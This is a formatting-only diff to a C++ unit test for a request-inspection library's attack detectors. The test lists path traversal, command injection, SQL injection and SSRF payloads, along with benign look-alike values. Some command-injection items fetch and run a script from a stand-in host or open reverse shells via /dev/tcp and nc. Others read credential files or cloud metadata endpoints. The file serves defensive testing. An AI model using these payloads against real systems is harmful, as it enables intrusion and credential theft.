@@ -1,11 +1,11 @@
 // Detectors: each catches the payloads attackers send, in their usual
 // encodings, and stays quiet on ordinary values that look alike.
-#include "fnguard/inspect/detectors.h"
-
 #include <gtest/gtest.h>
 
 #include <string>
 #include <vector>
+
+#include "fnguard/inspect/detectors.h"
 
 namespace fnguard::inspect {
 namespace {
@@ -38,68 +38,157 @@ void expect_detects(Detector d, std::initializer_list<const char*> values) {
 }
 
 void expect_clean(std::initializer_list<const char*> values) {
-  for (const char* v : values) EXPECT_TRUE(scan(v).empty()) << "false positive on \"" << v << "\": " << names(v);
+  for (const char* v : values)
+    EXPECT_TRUE(scan(v).empty()) << "false positive on \"" << v << "\": " << names(v);
 }
 
 TEST(InspectDetectors, PathTraversal) {
-  expect_detects(Detector::kPathTraversal, {
-      "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "/proc/self/environ",
-      "file:///etc/shadow", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252fetc%252fpasswd",
-      "..%c0%af..%c0%afetc/passwd", "....//....//etc/passwd", "images/../../../var/task/app.py",
-      "/proc/1/cmdline", "php://filter/convert.base64-encode/resource=index.php",
-      "C:\\Windows\\System32\\drivers\\etc\\hosts", "..%5c..%5cboot.ini", "/home/user/.ssh/id_rsa",
-      "../.env", "%u002e%u002e%u2215etc%u2215passwd",
-  });
+  expect_detects(Detector::kPathTraversal,
+                 {
+                     "../../../../etc/passwd",
+                     "..\\..\\..\\windows\\win.ini",
+                     "/etc/passwd",
+                     "/proc/self/environ",
+                     "file:///etc/shadow",
+                     "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+                     "%252e%252e%252fetc%252fpasswd",
+                     "..%c0%af..%c0%afetc/passwd",
+                     "....//....//etc/passwd",
+                     "images/../../../var/task/app.py",
+                     "/proc/1/cmdline",
+                     "php://filter/convert.base64-encode/resource=index.php",
+                     "C:\\Windows\\System32\\drivers\\etc\\hosts",
+                     "..%5c..%5cboot.ini",
+                     "/home/user/.ssh/id_rsa",
+                     "../.env",
+                     "%u002e%u002e%u2215etc%u2215passwd",
+                 });
 }
 
 TEST(InspectDetectors, CommandInjection) {
   expect_detects(Detector::kCommandInjection, {
-      "127.0.0.1; cat /etc/passwd", "x | id", "a && whoami", "`id`", "$(curl http://evil.example/x.sh|sh)",
-      "; /bin/sh -i", "cat${IFS}/etc/passwd", "file.txt\nls -la", "a;sleep 5", "|| ping -c 3 evil.example",
-      "%3Bcat%20%2Fetc%2Fpasswd", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "x;{cat,/etc/passwd}",
-      "a|nc -e /bin/sh evil.example 4444", "; python3 -c 'import os'",
-  });
+                                                  "127.0.0.1; cat /etc/passwd",
+                                                  "x | id",
+                                                  "a && whoami",
+                                                  "`id`",
+                                                  "$(curl http://evil.example/x.sh|sh)",
+                                                  "; /bin/sh -i",
+                                                  "cat${IFS}/etc/passwd",
+                                                  "file.txt\nls -la",
+                                                  "a;sleep 5",
+                                                  "|| ping -c 3 evil.example",
+                                                  "%3Bcat%20%2Fetc%2Fpasswd",
+                                                  "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                                                  "x;{cat,/etc/passwd}",
+                                                  "a|nc -e /bin/sh evil.example 4444",
+                                                  "; python3 -c 'import os'",
+                                              });
 }
 
 TEST(InspectDetectors, SqlInjection) {
   expect_detects(Detector::kSqlInjection, {
-      "' OR 1=1--", "admin'--", "1' or '1'='1", "1 OR 1=1", "' UNION SELECT username, password FROM users--",
-      "1 union all select null,null", "x'; DROP TABLE users;--", "1' AND SLEEP(5)#", "'; WAITFOR DELAY '0:0:5'--",
-      "1; select pg_sleep(5)", "' or ''='", "\" or \"\"=\"", "1/**/UNION/**/SELECT/**/1", "' or true--",
-      "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)", "' order by 3--", "x' and extractvalue(1,concat(0x7e,version()))--",
-      "%27%20OR%201%3D1--", "admin' #",
-  });
+                                              "' OR 1=1--",
+                                              "admin'--",
+                                              "1' or '1'='1",
+                                              "1 OR 1=1",
+                                              "' UNION SELECT username, password FROM users--",
+                                              "1 union all select null,null",
+                                              "x'; DROP TABLE users;--",
+                                              "1' AND SLEEP(5)#",
+                                              "'; WAITFOR DELAY '0:0:5'--",
+                                              "1; select pg_sleep(5)",
+                                              "' or ''='",
+                                              "\" or \"\"=\"",
+                                              "1/**/UNION/**/SELECT/**/1",
+                                              "' or true--",
+                                              "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
+                                              "' order by 3--",
+                                              "x' and extractvalue(1,concat(0x7e,version()))--",
+                                              "%27%20OR%201%3D1--",
+                                              "admin' #",
+                                          });
 }
 
 TEST(InspectDetectors, Ssrf) {
-  expect_detects(Detector::kSsrf, {
-      "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/",
-      "http://[fd00:ec2::254]/latest/meta-data/", "http://localhost:8080/admin", "http://127.0.0.1/", "http://[::1]:22/",
-      "http://0.0.0.0/", "http://2852039166/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/", "http://127.1/",
-      "http://10.0.0.5/internal", "https://192.168.1.1/", "http://172.16.3.4:9200/_search",
-      "gopher://127.0.0.1:6379/_FLUSHALL", "http://user@169.254.169.254/", "http://169.254.169.254.nip.io/",
-      "169.254.169.254", "localhost", "127.0.0.1:6379", "http://[::ffff:127.0.0.1]/",
-      "http%3A%2F%2F169.254.169.254%2Flatest", "http://localtest.me/", "dict://0:11211/stat",
-  });
+  expect_detects(Detector::kSsrf,
+                 {
+                     "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+                     "http://metadata.google.internal/computeMetadata/v1/",
+                     "http://[fd00:ec2::254]/latest/meta-data/",
+                     "http://localhost:8080/admin",
+                     "http://127.0.0.1/",
+                     "http://[::1]:22/",
+                     "http://0.0.0.0/",
+                     "http://2852039166/",
+                     "http://0xa9fea9fe/",
+                     "http://0251.0376.0251.0376/",
+                     "http://127.1/",
+                     "http://10.0.0.5/internal",
+                     "https://192.168.1.1/",
+                     "http://172.16.3.4:9200/_search",
+                     "gopher://127.0.0.1:6379/_FLUSHALL",
+                     "http://user@169.254.169.254/",
+                     "http://169.254.169.254.nip.io/",
+                     "169.254.169.254",
+                     "localhost",
+                     "127.0.0.1:6379",
+                     "http://[::ffff:127.0.0.1]/",
+                     "http%3A%2F%2F169.254.169.254%2Flatest",
+                     "http://localtest.me/",
+                     "dict://0:11211/stat",
+                 });
 }
 
 TEST(InspectDetectors, OrdinaryValuesThatLookAlikeStayQuiet) {
   expect_clean({
-      "O'Brien", "SELECT a plan", "Select your plan or upgrade", "docs/2024/report.pdf", "https://example.com/search?q=shoes",
-      "Tom & Jerry", "rock && roll", "salt; pepper", "It's 5 o'clock", "I'd like 'tea' or 'coffee'", "https://aws.amazon.com/",
-      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
-      "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "gzip, deflate, br", "en-US,en;q=0.5",
-      "Root=1-5e1b4151-5ac6c58f3b0c4e8ca6b2d2a4;Parent=53995c3f42cd8ad8;Sampled=1", "10.0.0.5", "2852039166",
-      "the union of two sets", "cats & dogs", "Fish; chips & peas", "price >= 10 and <= 20", "a-b_c.d",
-      "user@example.com", "+1 (555) 123-4567", "C'est la vie", "Meeting; update the doc", "version 1.2.3",
-      "see docs/../README", "#hashtag -- note", "x=1&y=2", "ls", "sleep well; dream",
-      "2024-05-01T10:00:00Z", "{\"a\":1}", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc", "100%", "50% off -- today only",
-      "https://api.github.com/repos/o/r", "/api/v1/users/42", "/static/css/site.css",
+      "O'Brien",
+      "SELECT a plan",
+      "Select your plan or upgrade",
+      "docs/2024/report.pdf",
+      "https://example.com/search?q=shoes",
+      "Tom & Jerry",
+      "rock && roll",
+      "salt; pepper",
+      "It's 5 o'clock",
+      "I'd like 'tea' or 'coffee'",
+      "https://aws.amazon.com/",
+      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 "
+      "Safari/537.36",
+      "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+      "gzip, deflate, br",
+      "en-US,en;q=0.5",
+      "Root=1-5e1b4151-5ac6c58f3b0c4e8ca6b2d2a4;Parent=53995c3f42cd8ad8;Sampled=1",
+      "10.0.0.5",
+      "2852039166",
+      "the union of two sets",
+      "cats & dogs",
+      "Fish; chips & peas",
+      "price >= 10 and <= 20",
+      "a-b_c.d",
+      "user@example.com",
+      "+1 (555) 123-4567",
+      "C'est la vie",
+      "Meeting; update the doc",
+      "version 1.2.3",
+      "see docs/../README",
+      "#hashtag -- note",
+      "x=1&y=2",
+      "ls",
+      "sleep well; dream",
+      "2024-05-01T10:00:00Z",
+      "{\"a\":1}",
+      "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
+      "100%",
+      "50% off -- today only",
+      "https://api.github.com/repos/o/r",
+      "/api/v1/users/42",
+      "/static/css/site.css",
   });
 }
 
 TEST(InspectDetectors, EvidenceIsAShortPrintableExcerpt) {
-  std::string v = std::string(200, 'a') + "' UNION SELECT password FROM users" + std::string(200, 'b') + "\x01";
+  std::string v =
+      std::string(200, 'a') + "' UNION SELECT password FROM users" + std::string(200, 'b') + "\x01";
   std::vector<Match> m = scan(v);
   ASSERT_EQ(m.size(), 1u);
   EXPECT_EQ(m[0].detector, Detector::kSqlInjection);
